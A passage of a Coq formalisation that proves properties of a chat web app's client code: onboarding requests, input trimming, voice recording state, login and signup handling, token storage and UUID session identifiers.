  destruct (Onboarding.on_line parse ctx line) as [es returned].
  destruct H as [Hp Hc]. destruct returned.
  - split; [exact Hp|]. exists []. rewrite Hc. split; reflexivity.
  - destruct (Onboarding.for_lines parse ctx lines) as [es' returned'].
    destruct IH as [Hp' Hc']. rewrite omap_app, Hp, Hp'.
    split; [reflexivity|]. destruct returned'.
    + destruct Hc' as (pre & -> & Hpre). exists (es ++ pre).
      rewrite app_assoc, omap_app, Hc, Hpre. split; reflexivity.
    + rewrite omap_app, Hc, Hc'. reflexivity.
Qed.

Lemma onboarding_while_read_shape parse ctx chunks : forall buf,
  omap posted (Onboarding.while_read parse ctx buf chunks) = []
  /\ (omap completed (Onboarding.while_read parse ctx buf chunks) = []
      \/ exists pre,
           Onboarding.while_read parse ctx buf chunks
           = pre ++ [Onboarding.OnComplete ctx]
           /\ omap completed pre = []).
Proof.
  induction chunks as [|chunk chunks IH]; intros buf; simpl;
    [split; [reflexivity | left; reflexivity]|].
  match goal with |- context [Onboarding.for_lines parse ctx ?lines] =>
    pose proof (onboarding_for_lines_shape parse ctx lines) as H;
    destruct (Onboarding.for_lines parse ctx lines) as [es returned]
  end.
  destruct H as [Hp Hc]. destruct returned.
  - split; [exact Hp | right; exact Hc].
  - match goal with |- context [Onboarding.while_read parse ctx ?b chunks] =>
      destruct (IH b) as [Hp' Hc'] end.
    rewrite omap_app, Hp, Hp'. split; [reflexivity|].
    destruct Hc' as [Hnone | (pre & -> & Hpre)].
    + left. rewrite omap_app, Hc, Hnone. reflexivity.
    + right. exists (es ++ pre).
      rewrite app_assoc, omap_app, Hc, Hpre. split; reflexivity.
Qed.

Lemma onboarding_received_shape parse ctx net :
  let received :=
    match net with
    | FetchRejects => []
    | FetchResolves res =>
        match res_body res with
        | Some b => Onboarding.while_read parse ctx [] (body_chunks b)
        | None => []
        end
    end in
  omap posted received = []
  /\ (omap completed received = []
      \/ exists pre, received = pre ++ [Onboarding.OnComplete ctx]
                     /\ omap completed pre = []).
Proof.
  destruct net as [|res]; simpl; [split; [reflexivity | left; reflexivity]|].
  destruct (res_body res) as [b|];
    [apply onboarding_while_read_shape
    | split; [reflexivity | left; reflexivity]].
Qed.

(** X9. A step of the onboarding that is not blocked posts exactly one
    request, under the component's session identifier, and its message is
    never empty: it is the trimmed input, or [skip] when that is empty. *)
Theorem submit_posts_one_request
    (parse : jsstring -> option SSEEvent) (sessionId : jsstring)
    (st : Onboarding.State) (q : Question) (value : jsstring)
    (net : FetchResult) :
  Onboarding.currentQuestion st = Some q ->
  Onboarding.isAnimating st = false ->
  exists message,
    omap posted (Onboarding.submit parse sessionId st value net)
    = [(sessionId, message)]
    /\ truthy message = true
    /\ message = (if truthy (trim value) then trim value else js "skip").
Proof.
  intros Hq Hidle. unfold Onboarding.submit. rewrite Hq, Hidle.
  destruct (onboarding_received_shape parse (Onboarding.context st) net)
    as [Hposted _].
  rewrite !omap_app, Hposted.
  exists (or_else (Some (trim value)) (js "skip")). unfold or_else.
  destruct (truthy (trim value)) eqn:Ht; repeat split; assumption.
Qed.

Lemma submit_posts_one_request_witness :
  exists message,
    omap posted
      (Onboarding.submit toy_parse (js "s1")
         (Onboarding.asking goals_question ∅) (js "   ") FetchRejects)
    = [(js "s1", message)]
    /\ truthy message = true
    /\ message = (if truthy (trim (js "   ")) then trim (js "   ")
                  else js "skip").
Proof.
  apply (submit_posts_one_request toy_parse (js "s1")
           (Onboarding.asking goals_question ∅) goals_question);
    reflexivity.
Defined.

(** X10. [submit] calls [onComplete] at most once, and the call ends the
    processing of the response: whatever the stream holds behind the
    [onboarding_complete] event is ignored, and the only thing that follows
    the call is the lowering of [isAnimating]. *)
Theorem onComplete_is_called_at_most_once
    (parse : jsstring -> option SSEEvent) (sessionId : jsstring)
    (st : Onboarding.State) (value : jsstring) (net : FetchResult) :
  let es := Onboarding.submit parse sessionId st value net in
  omap completed es = []
  \/ exists before,
       es = before ++ [Onboarding.OnComplete (Onboarding.context st);
                       Onboarding.SetIsAnimating false]
       /\ omap completed before = [].
Proof.
  intros es. subst es. unfold Onboarding.submit.
  destruct (Onboarding.currentQuestion st) as [q|]; [|left; reflexivity].
  destruct (Onboarding.isAnimating st); [left; reflexivity|].
  destruct (onboarding_received_shape parse (Onboarding.context st) net)
    as [_ [Hnone | (pre & Hrec & Hpre)]].
  - left. rewrite !omap_app, Hnone.
    destruct (truthy (trim value)); reflexivity.
  - right. rewrite Hrec.
    exists ([Onboarding.SetIsAnimating true]
            ++ (if truthy (trim value)
                then [Onboarding.SetContext (q_field q) (trim value);
                      Onboarding.AppendHistory (q_question q) (trim value)]
                else [])
            ++ [Onboarding.SetInputValue [];
                Onboarding.Fetch sessionId
                  (or_else (Some (trim value)) (js "skip"))]
            ++ pre).
    split.
    + rewrite <- !app_assoc. reflexivity.
    + rewrite !omap_app, Hpre. destruct (truthy (trim value)); reflexivity.
Qed.

(** ** Trimmed text *)

Lemma trimStart_fixed s :
  match s with [] => True | c :: _ => is_trimmed_unit c = false end ->
  trimStart s = s.
Proof. destruct s as [|c s]; [reflexivity|]. simpl. intros ->. reflexivity. Qed.

Lemma trimStart_head s :
  match trimStart s with [] => True | c :: _ => is_trimmed_unit c = false end.
Proof.
  induction s as [|c s IH]; [exact I|]. simpl.
  destruct (is_trimmed_unit c) eqn:Hc; [exact IH | exact Hc].
Qed.

Lemma trimStart_suffix s : exists pre, s = pre ++ trimStart s.
Proof.
  induction s as [|c s [pre IH]]; [exists []; reflexivity|]. simpl.
  destruct (is_trimmed_unit c).
  - exists (c :: pre). simpl. f_equal. exact IH.
  - exists []. reflexivity.
Qed.

Lemma trim_ends s :
  trimStart (trim s) = trim s /\ trimStart (rev (trim s)) = rev (trim s).
Proof.
  unfold trim. set (a := trimStart s). set (b := trimStart (rev a)).
  assert (Hb : trimStart b = b) by (apply trimStart_fixed, trimStart_head).
  split; [|rewrite rev_involutive; exact Hb].
  apply trimStart_fixed.
  destruct (trimStart_suffix (rev a)) as [pre Hpre]. fold b in Hpre.
  assert (Ha : a = rev b ++ rev pre).
  { rewrite <- (rev_involutive a), Hpre, rev_app_distr. reflexivity. }
  pose proof (trimStart_head s) as Hhead. fold a in Hhead.
  destruct (rev b) as [|c r]; [exact I|].
  rewrite Ha in Hhead. exact Hhead.
Qed.

Lemma trim_trim s : trim (trim s) = trim s.
Proof.
  destruct (trim_ends s) as [H1 H2]. unfold trim at 1.
  rewrite H1, H2. apply rev_involutive.
Qed.

(** ** From the input box to the request *)

(** X11. [handleSend] hands nothing to [sendMessage] for a blank input or
    during a stream; otherwise it clears the input and the active agents
    and hands over the trimmed input, which always gets past the blank
    check of [sendMessage]: with a token present, the request that is
    issued carries exactly the trimmed input. *)
Theorem handleSend_sends_the_trimmed_input
    (parse : jsstring -> option SSEEvent) (token : option jsstring)
    (hook : TokenHook.HookState) (page : Boardroom.State)
    (net : FetchResult) :
  match Boardroom.handleSend (TokenHook.isStreaming hook) page with
  | (page', Some text) =>
      text = trim (Boardroom.inputValue page)
      /\ Boardroom.inputValue page' = []
      /\ Boardroom.activeAgents page' = []
      /\ (truthy_opt token = true ->
          omap requested (TokenHook.sendMessage parse token hook text net)
          = [{| TokenHook.req_bearer := default [] token;
                TokenHook.req_message := trim (Boardroom.inputValue page);
                TokenHook.req_session_id := TokenHook.sessionId hook |}])
  | (page', None) =>
      page' = page
      /\ (truthy (trim (Boardroom.inputValue page)) = false
          \/ TokenHook.isStreaming hook = true)
  end.
Proof.
  unfold Boardroom.handleSend.
  destruct (truthy (trim (Boardroom.inputValue page))) eqn:Htext; simpl.
  - destruct (TokenHook.isStreaming hook) eqn:Hflag.
    + split; [reflexivity | right; reflexivity].
    + repeat split. intros Htoken.
      rewrite token_sendMessage_requests. unfold accepted.
      rewrite trim_trim, Htext, Hflag, Htoken. reflexivity.
  - split; [reflexivity | left; reflexivity].
Qed.

Lemma handleSend_sends_the_trimmed_input_witness :
  omap requested
    (TokenHook.sendMessage toy_parse (Some (js "jwt"))
       {| TokenHook.messages := []; TokenHook.isStreaming := false;
          TokenHook.sessionId := None |}
       (js "should we raise?") FetchRejects)
  = [{| TokenHook.req_bearer := js "jwt";
        TokenHook.req_message := js "should we raise?";
        TokenHook.req_session_id := None |}].
Proof.
  pose proof (handleSend_sends_the_trimmed_input toy_parse (Some (js "jwt"))
                {| TokenHook.messages := []; TokenHook.isStreaming := false;
                   TokenHook.sessionId := None |}
                {| Boardroom.inputValue := js "  should we raise? ";
                   Boardroom.activeAgents := [js "CEO"];
                   Boardroom.memoryCount := 0 |}
                FetchRejects) as H.
  vm_compute in H. destruct H as (_ & _ & _ & H). exact (H eq_refl).
Defined.

(** ** Voice input *)

Lemma or_else_truthy o d : truthy d = true -> truthy (or_else o d) = true.
Proof.
  intros Hd. unfold or_else. destruct o as [s|]; [|exact Hd].
  destruct (truthy s) eqn:Hs; [exact Hs | exact Hd].
Qed.

Ltac rest_case tac4 tac5 :=
  split; [reflexivity
         | split; [reflexivity
                  | split; [simpl; lia | split; [tac4 | tac5]]]].

(** X12. A recording that is stopped always comes to rest: the hook is
    idle again and the recorder inactive, whatever the transcription
    service does.  At most one transcript is delivered; it is non-empty and
    trimmed, and the boardroom's callback forwards it to [sendMessage].
    Without a key, or when the service fails or refuses, nothing is
    delivered and a non-empty error is set. *)
Theorem stopRecording_comes_to_rest
    (apiKey : option jsstring) (g : Voice.Gemini) (st : Voice.State) :
  Voice.mediaRecorderRef st = Some Voice.active ->
  let '(st', transcripts) := Voice.stopRecording apiKey g st in
  Voice.voiceState st' = Voice.idle
  /\ Voice.mediaRecorderRef st' = Some Voice.inactive
  /\ (length transcripts <= 1)%nat
  /\ Forall (fun t => truthy t = true /\ trim t = t
                      /\ Boardroom.onTranscript t = Some t) transcripts
  /\ (untranscribed apiKey g = true ->
      transcripts = []
      /\ exists message, Voice.error st' = Some message
                         /\ truthy message = true).
Proof.
  intros Href. unfold Voice.stopRecording, untranscribed. rewrite Href.
  assert (Hset : forall message : jsstring,
             truthy message = true ->
             ([] : list jsstring) = []
             /\ exists m, Some message = Some m /\ truthy m = true)
    by (intros message Hm; split; [reflexivity | eauto]).
  destruct (truthy_opt apiKey); simpl.
  - destruct g as [|message|text]; simpl.
    + rest_case ltac:(constructor) ltac:(intros _; apply Hset; reflexivity).
    + rest_case ltac:(constructor)
        ltac:(intros _; apply Hset, or_else_truthy; reflexivity).
    + destruct text as [text|]; simpl;
        [|rest_case ltac:(constructor) ltac:(discriminate)].
      destruct (truthy (trim text)) eqn:Ht;
        [|rest_case ltac:(constructor) ltac:(discriminate)].
      rest_case ltac:(idtac) ltac:(discriminate).
      constructor; [|constructor]. split; [exact Ht|].
      split; [apply trim_trim|]. unfold Boardroom.onTranscript.
      rewrite trim_trim, Ht. reflexivity.
  - rest_case ltac:(constructor) ltac:(intros _; apply Hset; reflexivity).
Qed.

Lemma stopRecording_comes_to_rest_witness :
  Voice.voiceState
    (fst (Voice.stopRecording (Some (js "key"))
            (Voice.Answers (Some (js " should we raise? ")))
            (Voice.startRecording Voice.started Voice.initial)))
  = Voice.idle.
Proof.
  pose proof (stopRecording_comes_to_rest (Some (js "key"))
                (Voice.Answers (Some (js " should we raise? ")))
                (Voice.startRecording Voice.started Voice.initial)
                eq_refl) as H.
  destruct (Voice.stopRecording _ _ _) as [st' ts]. apply H.
Defined.

Lemma stopRecording_shape apiKey g st :
  Voice.mediaRecorderRef st = Some Voice.active ->
  Voice.voiceState (fst (Voice.stopRecording apiKey g st)) = Voice.idle
  /\ Voice.mediaRecorderRef (fst (Voice.stopRecording apiKey g st))
     = Some Voice.inactive
  /\ Voice.chunksRef (fst (Voice.stopRecording apiKey g st))
     = Voice.chunksRef st.
Proof.
  intros Href. unfold Voice.stopRecording. rewrite Href.
  destruct (truthy_opt apiKey); simpl; [|repeat split].
  destruct g; repeat split.
Qed.

Lemma voice_step_invariant st e :
  Voice.voiceState st <> Voice.processing ->
  (Voice.voiceState st = Voice.recording
   <-> Voice.mediaRecorderRef st = Some Voice.active) ->
  Forall (fun b => 0 < Voice.blob_size b) (Voice.chunksRef st) ->
  let st' := voice_step st e in
  Voice.voiceState st' <> Voice.processing
  /\ (Voice.voiceState st' = Voice.recording
      <-> Voice.mediaRecorderRef st' = Some Voice.active)
  /\ Forall (fun b => 0 < Voice.blob_size b) (Voice.chunksRef st').
Proof.
  intros Hrest Hrec Hchunks.
  assert (Hidle : Voice.idle <> Voice.processing) by discriminate.
  assert (Hrecording : Voice.recording <> Voice.processing) by discriminate.
  destruct e as [p|data]; simpl.
  - unfold Voice.toggle. destruct (Voice.voiceState st) eqn:Hvs.
    + simpl. destruct (Voice.microphone p); simpl; rewrite ?Hvs.
      * split; [exact Hidle|]. split; [|exact Hchunks].
        rewrite <- Hrec. split; intros H; discriminate H.
      * split; [exact Hidle|]. split; [|constructor].
        split; intros H; discriminate H.
      * split; [exact Hrecording|]. split; [|constructor].
        split; reflexivity.
    + assert (Href : Voice.mediaRecorderRef st = Some Voice.active)
        by (apply Hrec; reflexivity).
      destruct (stopRecording_shape (Voice.apiKey p) (Voice.gemini p) st Href)
        as (Hstop & Hinactive & Hsame).
      rewrite Hstop, Hinactive, Hsame.
      split; [exact Hidle|]. split; [|exact Hchunks].
      split; intros H; discriminate H.
    + congruence.
  - unfold Voice.ondataavailable.
    destruct (0 <? Voice.blob_size data) eqn:Hsize; simpl.
    + split; [exact Hrest|]. split; [exact Hrec|].
      apply Forall_app. split; [exact Hchunks|].
      constructor; [|constructor]. apply N.ltb_lt, Hsize.
    + split; [exact Hrest|]. split; [exact Hrec | exact Hchunks].
Qed.

(** X13. The microphone button never gets stuck.  After any sequence of
    presses and data events, with the microphone, the key and the service
    behaving in any way, the hook is idle or recording, it shows
    [recording] exactly when the recorder is active (so that the next press
    does stop it), and it holds no empty chunk. *)
Theorem voice_button_never_gets_stuck (events : list VoiceEvent) :
  let st := fold_left voice_step events Voice.initial in
  Voice.voiceState st <> Voice.processing
  /\ (Voice.voiceState st = Voice.recording
      <-> Voice.mediaRecorderRef st = Some Voice.active)
  /\ Forall (fun b => 0 < Voice.blob_size b) (Voice.chunksRef st).
Proof.
  simpl.
  assert (Hgen : forall st,
             Voice.voiceState st <> Voice.processing ->
             (Voice.voiceState st = Voice.recording
              <-> Voice.mediaRecorderRef st = Some Voice.active) ->
             Forall (fun b => 0 < Voice.blob_size b) (Voice.chunksRef st) ->
             Voice.voiceState (fold_left voice_step events st)
             <> Voice.processing
             /\ (Voice.voiceState (fold_left voice_step events st)
                 = Voice.recording
                 <-> Voice.mediaRecorderRef (fold_left voice_step events st)
                     = Some Voice.active)
             /\ Forall (fun b => 0 < Voice.blob_size b)
                  (Voice.chunksRef (fold_left voice_step events st))).
  { induction events as [|e events IH]; intros st H1 H2 H3; simpl; [auto|].
    destruct (voice_step_invariant st e H1 H2 H3) as (H1' & H2' & H3').
    apply IH; assumption. }
  apply Hgen; simpl.
  - discriminate.
  - split; intros H; discriminate H.
  - constructor.
Qed.

Lemma split_comma_plain s : 44 ∉ s -> Voice.split_comma s = [s].
Proof.
  induction s as [|c s IH]; intros Hs; [reflexivity|]. simpl.
  destruct (N.eqb_spec c 44) as [-> | _].
  - exfalso. apply Hs. left.
  - rewrite IH; [reflexivity|]. intros Hin. apply Hs. right. exact Hin.
Qed.

Lemma split_comma_before header : forall after,
  44 ∉ header ->
  Voice.split_comma (header ++ 44 :: after)
  = header :: Voice.split_comma after.
Proof.
  induction header as [|c header IH]; intros after Hh; [reflexivity|].
  simpl. destruct (N.eqb_spec c 44) as [-> | _].
  - exfalso. apply Hh. left.
  - rewrite IH; [reflexivity|]. intros Hin. apply Hh. right. exact Hin.
Qed.

(** X14. [blobToBase64] returns the payload of the data URL the reader
    produced: for [header,payload] with no further comma it resolves to
    exactly [payload], and for a result without any comma to
    [undefined]. *)
Theorem blobToBase64_returns_the_payload (header payload : jsstring) :
  44 ∉ header -> 44 ∉ payload ->
  Voice.blobToBase64 (header ++ [44] ++ payload) = Some payload
  /\ Voice.blobToBase64 header = None.
Proof.
  intros Hh Hp. unfold Voice.blobToBase64. split.
  - simpl. rewrite split_comma_before by exact Hh.
    rewrite split_comma_plain by exact Hp. reflexivity.
  - rewrite split_comma_plain by exact Hh. reflexivity.
Qed.

Lemma blobToBase64_returns_the_payload_witness :
  Voice.blobToBase64 (js "data:audio/webm;base64,R0lGODlh")
  = Some (js "R0lGODlh").
Proof.
  apply (proj1 (blobToBase64_returns_the_payload
                  (js "data:audio/webm;base64") (js "R0lGODlh")
                  ltac:(by_computation) ltac:(by_computation))).
Defined.

(** ** Authentication *)


Lemma restore_consistent stored me :
  auth_consistent (Auth.restore me (Auth.initial stored)).
Proof.
  unfold auth_consistent, Auth.restore, Auth.initial, Auth.isAuthenticated.
  simpl. destruct (stored !! Auth.TOKEN_KEY) as [existing|] eqn:Hstored; simpl.
  - destruct (truthy existing); simpl.
    + destruct me as [data|]; simpl.
      * rewrite Hstored. split; [reflexivity|]. split; [eauto | reflexivity].
      * rewrite lookup_delete_eq. repeat split.
        intros H; first [discriminate H | apply bool_decide_eq_true in H; destruct H; discriminate].
    + rewrite Hstored. repeat split.
      intros H; first [discriminate H | apply bool_decide_eq_true in H; destruct H; discriminate].
  - rewrite Hstored. repeat split.
    intros H; first [discriminate H | apply bool_decide_eq_true in H; destruct H; discriminate].
Qed.

Lemma perform_consistent st op :
  auth_consistent st -> auth_consistent (Auth.perform st op).
Proof.
  unfold auth_consistent, Auth.isAuthenticated.
  intros (Htoken & Huser & Hloading).
  assert (Hfresh : forall t u,
             auth_consistent
               {| Auth.user := Some u; Auth.token := Some t;
                  Auth.isLoading := Auth.isLoading st;
                  Auth.storage := <[Auth.TOKEN_KEY := t]> (Auth.storage st) |}).
  { intros t u. unfold auth_consistent. simpl.
    rewrite lookup_insert_eq. split; [reflexivity|]. split; [eauto | exact Hloading]. }
  destruct op as [email password a | signupData a |]; simpl.
  - unfold Auth.login, Auth.authenticate.
    destruct a as [message | detail | t u]; simpl; [auto | auto | exact (Hfresh t u)].
  - unfold Auth.signup, Auth.authenticate.
    destruct a as [message | detail | t u]; simpl; [auto | auto | exact (Hfresh t u)].
  - rewrite lookup_delete_eq. repeat split; [|exact Hloading].
    intros H; first [discriminate H | apply bool_decide_eq_true in H; destruct H; discriminate].
Qed.

(** X15. Once the effect that restores the session has run, whatever
    logins, signups and logouts follow, each login and signup ending in a
    thrown error, a refusal, or a success body that carries a token and a
    user, the token in the hook's state is the one in [localStorage], a
    user is present only while a token is, and the loading flag stays
    off. *)
Theorem auth_state_agrees_with_storage
    (stored : gmap jsstring jsstring) (me : option Auth.AuthUser)
    (ops : list Auth.Operation) :
  let st := fold_left Auth.perform ops (Auth.restore me (Auth.initial stored)) in
  Auth.token st = Auth.storage st !! Auth.TOKEN_KEY
  /\ (Auth.isAuthenticated st = true -> is_Some (Auth.token st))
  /\ Auth.isLoading st = false.
Proof.
  simpl. pose proof (restore_consistent stored me) as H.
  revert H. generalize (Auth.restore me (Auth.initial stored)).
  induction ops as [|op ops IH]; intros st H; [exact H|].
  simpl. apply IH, perform_consistent, H.
Qed.

(** X16. Submitting the login form always ends with the form enabled
    again.  A granted login leaves no error and signs the user in; any
    failure (a thrown error, with or without a message, or a refusal, with
    or without a detail) leaves a non-empty error text and the
    authentication state untouched. *)
Theorem login_form_reports_every_failure
    (a : Auth.Answer) (page : LoginPage.State) (auth : Auth.State) :
  let '(page', auth') := LoginPage.handleSubmit a page auth in
  LoginPage.loading page' = false
  /\ match a with
     | Auth.Granted t u =>
         LoginPage.error page' = []
         /\ Auth.user auth' = Some u /\ Auth.token auth' = Some t
         /\ Auth.storage auth' !! Auth.TOKEN_KEY = Some t
     | _ => truthy (LoginPage.error page') = true /\ auth' = auth
     end.
Proof.
  unfold LoginPage.handleSubmit, Auth.login, Auth.authenticate.
  destruct a as [message | detail | t u]; simpl.
  - split; [reflexivity|]. split; [|reflexivity].
    apply (or_else_truthy (Some message)). reflexivity.
  - split; [reflexivity|]. split; [|reflexivity].
    apply (or_else_truthy (Some _)). reflexivity.
  - rewrite lookup_insert_eq. repeat split.
Qed.

(** ** The signup wizard *)

Lemma checked_payload f :
  SignupPage.checked (SignupPage.payload f)
  = truthy (SignupPage.f_email f)
    && (8 <=? length (SignupPage.f_password f))%nat
    && truthy (SignupPage.f_name f) && truthy (SignupPage.f_role f).
Proof. reflexivity. Qed.

Lemma signup_act_invariant st a :
  (SignupPage.step st = SignupPage.step2 ->
   truthy (SignupPage.f_email (SignupPage.form st)) = true
   /\ (8 <= length (SignupPage.f_password (SignupPage.form st)))%nat) ->
  forallb SignupPage.checked (SignupPage.sent st) = true ->
  (SignupPage.step (SignupPage.act st a) = SignupPage.step2 ->
   truthy (SignupPage.f_email (SignupPage.form (SignupPage.act st a))) = true
   /\ (8 <= length (SignupPage.f_password
                      (SignupPage.form (SignupPage.act st a))))%nat)
  /\ forallb SignupPage.checked (SignupPage.sent (SignupPage.act st a)) = true.
Proof.
  intros Hstep Hsent. destruct a as [field value | answer |]; simpl.
  - destruct (SignupPage.step st) eqn:Hs.
    + destruct field; simpl; rewrite ?Hs; (split; [discriminate | exact Hsent]).
    + destruct field; simpl; rewrite ?Hs; (split; [|exact Hsent]);
        intros _; apply Hstep; reflexivity.
  - destruct (SignupPage.step st) eqn:Hs.
    + unfold SignupPage.handleNext.
      destruct (truthy (SignupPage.f_email (SignupPage.form st))) eqn:He;
        simpl; [|rewrite Hs; split; [discriminate | exact Hsent]].
      destruct (truthy (SignupPage.f_password (SignupPage.form st))); simpl;
        [|rewrite Hs; split; [discriminate | exact Hsent]].
      destruct (Nat.ltb_spec (length (SignupPage.f_password (SignupPage.form st))) 8);
        simpl; [rewrite Hs; split; [discriminate | exact Hsent]|].
      split; [|exact Hsent]. intros _. split; [exact He | assumption].
    + destruct (Hstep eq_refl) as [He Hp].
      unfold SignupPage.handleSubmit.
      destruct (truthy (SignupPage.f_name (SignupPage.form st))) eqn:Hn; simpl;
        [|rewrite Hs; split; [intros _; auto | exact Hsent]].
      destruct (truthy (SignupPage.f_role (SignupPage.form st))) eqn:Hr; simpl;
        [|rewrite Hs; split; [intros _; auto | exact Hsent]].
      assert (Hnew : forallb SignupPage.checked
                       (SignupPage.sent st ++ [SignupPage.payload (SignupPage.form st)])
                     = true).
      { rewrite forallb_app, Hsent. cbn [forallb].
        rewrite checked_payload, He, Hn, Hr.
        apply Nat.leb_le in Hp. rewrite Hp. reflexivity. }
      destruct (Auth.signup _ answer _) as [auth' [message|]]; simpl;
        rewrite Hs; (split; [intros _; auto | exact Hnew]).
  - destruct (SignupPage.step st) eqn:Hs; simpl.
    + rewrite Hs. split; [discriminate | exact Hsent].
    + split; [discriminate | exact Hsent].
Qed.

(** X17. Whatever is typed, submitted and taken back in the signup
    wizard, and however the server answers, every call of [signup] carries
    a non-empty email, a password of at least eight code units, a non-empty
    name and a non-empty role. *)
Theorem signup_sends_only_checked_forms
    (auth : Auth.State) (actions : list SignupPage.Action) :
  forallb SignupPage.checked
    (SignupPage.sent (fold_left SignupPage.act actions (SignupPage.initial auth)))
  = true.
Proof.
  assert (Hgen : forall st,
             (SignupPage.step st = SignupPage.step2 ->
              truthy (SignupPage.f_email (SignupPage.form st)) = true
              /\ (8 <= length (SignupPage.f_password (SignupPage.form st)))%nat) ->
             forallb SignupPage.checked (SignupPage.sent st) = true ->
             forallb SignupPage.checked
               (SignupPage.sent (fold_left SignupPage.act actions st)) = true).
  { induction actions as [|a actions IH]; intros st H1 H2; [exact H2|].
    simpl. destruct (signup_act_invariant st a H1 H2) as [H1' H2'].
    apply IH; assumption. }
  apply Hgen; [discriminate | reflexivity].
Qed.

(** ** Session identifiers *)

Lemma to_hex_nonempty fuel v : truthy (Session.to_hex (S fuel) v) = true.
Proof.
  simpl. destruct (v <? 16); [reflexivity|].
  destruct (Session.to_hex fuel (v / 16)); reflexivity.
Qed.

Lemma toString16_digit v : v < 16 -> Session.toString16 v = [Session.hex_digit v].
Proof.
  intros Hv. unfold Session.toString16. simpl.
  apply N.ltb_lt in Hv. rewrite Hv. reflexivity.
Qed.

Lemma below_16 r :
  r < 16 ->
  r ∈ [0; 1; 2; 3; 4; 5; 6; 7; 8; 9; 10; 11; 12; 13; 14; 15].
Proof.
  intros Hr.
  assert (H : r = 0 \/ r = 1 \/ r = 2 \/ r = 3 \/ r = 4 \/ r = 5 \/ r = 6
              \/ r = 7 \/ r = 8 \/ r = 9 \/ r = 10 \/ r = 11 \/ r = 12
              \/ r = 13 \/ r = 14 \/ r = 15) by lia.
  repeat (destruct H as [-> | H]; [set_solver|]). subst r. set_solver.
Qed.

Lemma x_digit_fits r :
  r < 16 ->
  Session.toString16 r = [Session.hex_digit r]
  /\ Session.is_hex (Session.hex_digit r) = true.
Proof.
  intros Hr. split; [apply toString16_digit, Hr|].
  apply below_16 in Hr. repeat (apply elem_of_cons in Hr as [-> | Hr]; [reflexivity|]).
  apply elem_of_nil in Hr. contradiction.
Qed.

Lemma y_digit_fits r :
  r < 16 ->
  exists c, Session.toString16 (N.lor (N.land r 3) 8) = [c]
            /\ (c = 56 \/ c = 57 \/ c = 97 \/ c = 98).
Proof.
  intros Hr. apply below_16 in Hr.
  repeat (apply elem_of_cons in Hr as [-> | Hr];
          [eexists; split; [reflexivity | vm_compute; tauto]|]).
  apply elem_of_nil in Hr. contradiction.
Qed.

Lemma fill_fits (rnd : nat -> N) (t : jsstring) :
  (forall i, rnd i < 16) ->
  forall calls,
    Forall2 Session.fits t (fst (Session.fill rnd calls t))
    /\ snd (Session.fill rnd calls t)
       = (calls + length (List.filter (fun c => N.eqb c 120 || N.eqb c 121) t))%nat.
Proof.
  intros Hrnd. induction t as [|c t IH]; intros calls; simpl.
  - split; [constructor | lia].
  - destruct (c =? 120) eqn:Hx; simpl.
    + destruct (IH (S calls)) as [Hfits Hcalls].
      destruct (Session.fill rnd (S calls) t) as [out calls'] eqn:Hfill.
      simpl in *. destruct (x_digit_fits (rnd calls) (Hrnd calls)) as [-> Hhex].
      split; [|lia]. constructor; [|exact Hfits].
      unfold Session.fits. rewrite Hx. exact Hhex.
    + destruct (c =? 121) eqn:Hy; simpl.
      * destruct (IH (S calls)) as [Hfits Hcalls].
        destruct (Session.fill rnd (S calls) t) as [out calls'] eqn:Hfill.
        simpl in *.
        destruct (y_digit_fits (rnd calls) (Hrnd calls)) as (d & -> & Hd).
        split; [|lia]. constructor; [|exact Hfits].
        unfold Session.fits. rewrite Hx, Hy. exact Hd.
      * destruct (IH calls) as [Hfits Hcalls].
        destruct (Session.fill rnd calls t) as [out calls'] eqn:Hfill.
        simpl in *. split; [|lia]. constructor; [|exact Hfits].
        unfold Session.fits. rewrite Hx, Hy. reflexivity.
Qed.

Lemma generateUUID_truthy rnd calls :
  truthy (fst (Session.generateUUID rnd calls)) = true.
Proof.
  unfold Session.generateUUID, Session.template.
  change (js "xxxxxxxx-xxxx-4xxx-yxxx-xxxxxxxxxxxx")
    with (120 :: js "xxxxxxx-xxxx-4xxx-yxxx-xxxxxxxxxxxx").
  cbn [Session.fill N.eqb Pos.eqb orb].
  destruct (Session.fill rnd (S calls) _) as [out calls']. cbn [fst].
  pose proof (to_hex_nonempty (N.to_nat (N.log2 (rnd calls))) (rnd calls)) as H.
  unfold Session.toString16.
  destruct (Session.to_hex _ (rnd calls)); [discriminate H | reflexivity].
Qed.

(** X18. As long as each draw [(Math.random() * 16) | 0] is below 16,
    [generateUUID] returns the template with every [x] replaced by one
    lower-case hexadecimal digit and the [y] by one of [8], [9], [a], [b];
    the hyphens and the version digit [4] stay where they are, and it draws
    31 random numbers. *)
Theorem generateUUID_fills_the_template
    (rnd : nat -> N) (calls : nat) (Hrnd : forall i, rnd i < 16) :
  Forall2 Session.fits Session.template (fst (Session.generateUUID rnd calls))
  /\ snd (Session.generateUUID rnd calls) = (calls + 31)%nat.
Proof.
  destruct (fill_fits rnd Session.template Hrnd calls) as [Hfits Hcalls].
  split; [exact Hfits|]. unfold Session.generateUUID. rewrite Hcalls.
  reflexivity.
Qed.

Lemma generateUUID_fills_the_template_witness :
  (forall i : nat, (fun _ => 11) i < 16)
  /\ Forall2 Session.fits Session.template
       (fst (Session.generateUUID (fun _ => 11) 0))
  /\ snd (Session.generateUUID (fun _ => 11) 0) = 31%nat.
Proof.
  split; [intros i; reflexivity|].
  apply (generateUUID_fills_the_template (fun _ => 11) 0).
  intros i. reflexivity.
Defined.

(** X19. The session identifier the hook starts with is never empty and
    is the one in [localStorage] afterwards, so that mounting the hook
    again (a reload, with whatever [Math.random] would give then) yields the
    same identifier and leaves the storage as it is. *)
Theorem session_id_survives_a_reload
    (rnd rnd' : nat -> N) (w : Session.World) :
  let '(id, w') := Session.init rnd w in
  truthy id = true
  /\ Session.storage w' !! Session.SESSION_KEY = Some id
  /\ Session.init rnd' w' = (id, w').
Proof.
  assert (Hnew : forall stored,
             let '(id, calls') := Session.generateUUID rnd (Session.calls w) in
             let w' := {| Session.storage := <[Session.SESSION_KEY := id]> stored;
                          Session.calls := calls' |} in
             truthy id = true
             /\ Session.storage w' !! Session.SESSION_KEY = Some id
             /\ Session.init rnd' w' = (id, w')).
  { intros stored. pose proof (generateUUID_truthy rnd (Session.calls w)) as Hid.
    destruct (Session.generateUUID rnd (Session.calls w)) as [id calls'].
    simpl in Hid. unfold Session.init. simpl. rewrite lookup_insert_eq, Hid.
    split; [reflexivity|]. split; reflexivity. }
  unfold Session.init at 1.
  destruct (Session.storage w !! Session.SESSION_KEY) as [id|] eqn:Hstored.
  - destruct (truthy id) eqn:Hid.
    + split; [exact Hid|]. split; [exact Hstored|].
